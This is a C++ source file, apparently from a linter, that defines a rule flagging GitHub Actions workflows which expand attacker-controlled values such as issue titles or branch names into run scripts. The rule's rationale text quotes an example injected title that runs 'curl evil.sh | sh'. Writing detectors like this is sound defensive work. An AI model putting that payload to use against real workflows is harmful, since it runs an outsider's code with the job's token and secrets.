#include "core/strings.h"
#include "rules/rule.h"
#include "rules/supply-chain/workflow_hardening.h"

namespace golive::rules::supply_chain {
namespace {

// What makes an expression attacker-controlled, or "": a context, or an env var holding one.
std::string taint_of(const StepSite& site, std::string_view inside) {
  if (std::string context = untrusted_context(inside); !context.empty()) return context;
  std::string lower = core::to_lower(inside);
  if (lower.rfind("env.", 0) == 0) {
    std::string name(core::trim(inside.substr(4)));
    if (std::string context = untrusted_env(site, name); !context.empty())
      return "env." + name + ", set from " + context;
  }
  return "";
}

void scan(RuleContext& context, Once& once, const StepSite& site, std::string_view text,
          int first_line, bool exact, std::string_view where) {
  auto lines = core::split_lines(text);
  for (size_t i = 0; i < lines.size(); ++i) {
    int line = exact ? first_line + static_cast<int>(i) : first_line;
    for (const auto& expression : expressions_in(lines[i])) {
      std::string taint = taint_of(site, expression.inside);
      if (taint.empty() || !once.first(site.path(), line, expression.inside)) continue;
      std::string why = core::iequals(taint, expression.inside) ? "" : " (" + taint + ")";
      context.report(site.owner() + " expands the attacker-controlled '${{ " + expression.inside +
                         " }}'" + why + " into " + std::string(where),
                     site.path(), line, 0, core::excerpt(core::trim(lines[i]), 120));
    }
  }
}

void check(RuleContext& context) {
  if (!has_github_ci(context.model()))
    return context.not_applicable("no GitHub workflows or actions");
  Once once;
  for (const auto& site : steps_of(context.model(), false)) {
    const model::Step& step = *site.step;
    if (!step.run.empty()) {
      int first = step.script_line > 0 ? step.script_line : step.run_line;
      std::string where =
          step.name.empty() ? "a run script" : "the run script of step '" + step.name + "'";
      scan(context, once, site, step.run, first, step.script_lines_exact, where);
    }
    if (action_is(parse_uses(step.uses), "actions/github-script")) {
      if (const model::KeyValue* script = step.input("script")) {
        bool block = script->value.find('\n') != std::string::npos;
        scan(context, once, site, script->value, script->line + (block ? 1 : 0), block,
             "the script of actions/github-script");
      }
    }
  }
}

}  // namespace

extern const Rule kScriptInjection;
const Rule kScriptInjection{
    {.id = "supply-chain/script-injection",
     .section = "supply-chain",
     .title = "No attacker-controlled ${{ }} in run scripts",
     .severity = Severity::kError,
     .seeds = "004 T016",
     .rationale =
         "GitHub substitutes ${{ }} into the script text before the shell runs it. An issue "
         "title, pull request body, branch name or commit message is chosen by whoever opens "
         "it, so a title like 'a\"; curl evil.sh | sh; echo \"' runs their commands with the "
         "job's token and secrets.",
     .remediation =
         "Pass the value through the environment and quote it in the shell: 'env: { TITLE: "
         "${{ github.event.issue.title }} }' on the step, then 'echo \"$TITLE\"' in run (in "
         "actions/github-script read process.env.TITLE or context.payload instead).",
     .also = "zizmor template-injection, CodeQL actions/code-injection"},
    check};

}  // namespace golive::rules::supply_chain
